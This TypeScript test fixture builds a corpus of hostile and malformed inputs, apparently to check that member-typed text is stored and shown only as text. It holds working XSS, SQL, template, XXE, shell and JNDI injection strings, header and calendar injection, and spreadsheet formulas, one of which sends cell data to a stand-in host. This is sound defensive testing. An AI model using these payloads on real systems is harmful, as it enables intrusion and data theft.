/*
 * Texts that are more than a text to somebody: to a page, a header, a calendar, a table, a path, a terminal. Where one
 * of them is taken for code, it leaves the word `pwned` behind: a variable of the page, a header, a line.
 */

/** What members may type: it is stored as it is, and shown as a text. */
const typed: Readonly<Record<string, string>> = {
  script: '<script>window.pwned=1</script>',
  'end of a script': '</script></title></textarea></style><script>window.pwned=1</script>',
  picture: '<img src=x onerror="window.pwned=1">',
  drawing: '<svg/onload=window.pwned=1><script>window.pwned=1</script></svg>',
  frame: '"><iframe srcdoc="<script>top.pwned=1</script>"></iframe>',
  attribute: '" autofocus onfocus="window.pwned=1" x="',
  'style sheet': '<style>*{display:none}</style><link rel=stylesheet href=//pwned.example>',
  'base of a page': '<base href="//pwned.example/"><meta http-equiv=refresh content="0;url=//pwned.example">',
  'script in an address': 'javascript:window.pwned=1',
  'page in an address': 'data:text/html,<script>window.pwned=1</script>',
  'address with an attribute': 'https://pwned.example/"onmouseover="window.pwned=1',
  'address with a name': 'https://furrow.example@pwned.example/%2e%2e/',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what a template would take for code
  template: '{{constructor.constructor("window.pwned=1")()}} ${window.pwned=1} <%= pwned %> #{pwned}',
  entity: '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/pwned">]><x>&e;&lt;&#x3c;</x> ]]> -->',
  query: `' OR 1=1; DROP TABLE pwned; -- {"$ne":null} ; begins_with(pk, :p)`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what a log may take for code
  command: '$(touch pwned) `touch pwned` | touch pwned & ${jndi:ldap://pwned.example/a} %s%n%x',
  path: '../../../../etc/pwned/..\\..\\windows\\pwned.exe',
  'encoded path': '%2e%2e%2f%2e%2e%2fpwned%00.png%0d%0aSet-Cookie:%20pwned=1',
  header: 'Hay\r\nSet-Cookie: pwned=1\r\nBcc: pwned@pwned.example\r\n\r\n<script>window.pwned=1</script>',
  'lone line ends': 'Hay\rSet-Cookie: pwned=1\nX-Pwned: pwned',
  event: 'Milk\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:pwned\r\nSUMMARY:pwned\r\nEND:VEVENT',
  'event by other line ends': 'Milk\u2028END:VEVENT\u2029BEGIN:VEVENT\u0085UID:pwned',
  'parts of a value': 'Milk;ATTACH=pwned:https://pwned.example,\\nBEGIN:VALARM',
  formula: `=HYPERLINK("https://pwned.example?"&A1,"Milk")`,
  'formula by plus': "+cmd|' /C calc'!A0",
  'formula by minus': '-2+3+pwned',
  'formula by at': '@SUM(1+1)*pwned',
  'formula after a tab': '\t=1+1',
  'formula after a line': '\n=1+1',
  'formula in full width': '＝1+1',
  'row of a table': 'a","=1+1"\r\n"=2+2',
  'name of every object': '__proto__',
  constructor: 'constructor',
  'object as a text': '{"__proto__":{"pwned":1},"length":-1}',
  'empty as a text': 'null',
  'marks upon marks': `Z${'\u0301'.repeat(150)}`,
  'marks around a letter': `a${'\u0489'.repeat(40)}`,
  'word without an end': 'W'.repeat(190),
  'letters that grow': '\ufdfa'.repeat(100),
  'family of many': '👩‍👩‍👧‍👦'.repeat(25),
  'unseen between': 'H\u200ba\u200cy\u200d\u2060\ufeff\u00ad!',
  'other direction': 'مزرعة ‏(حبوب)‏ 12 שדה',
  'turned capitals': 'ſİıẞǅﬀ',
  'long address': `https://pwned.example/${'a'.repeat(170)}`,
  'names of members': '@ada @root @__proto__ @..'.repeat(7),
};

/** Texts that say something else than they show: nothing that is a name takes them. */
const turning: Readonly<Record<string, string>> = {
  'turned around': 'invoice\u202egnp.exe',
  isolated: '\u2067pwned\u2069 hay \u2066pwned',
};

/** What nobody types, and no table or file can hold: it is refused in words. */
const broken: Readonly<Record<string, string>> = {
  'half a letter': 'Hay \ud83c',
  'the other half': '\udf3e hay',
  'both in the wrong order': '\udf3e\ud83c',
  zero: 'Hay\u0000.png',
  'command of a terminal': '\u001b]0;pwned\u0007\u001b[2J',
  'back and away': 'Hay\b\b\b\u007f',
};

const entriesOf = (texts: Readonly<Record<string, string>>, isBroken: boolean) =>
  Object.entries(texts).map(([name, text]) => ({ name, text, isBroken }));

/** All of them, by what they are, and whether they are refused everywhere. */
export const corpus = [...entriesOf({ ...typed, ...turning }, false), ...entriesOf(broken, true)];

/** Those that may be a name, and with it stand in every list. */
export const namingCorpus = Object.entries(typed);

/** Those that are shown to others. */
export const shownCorpus: readonly string[] = Object.values({ ...typed, ...turning });
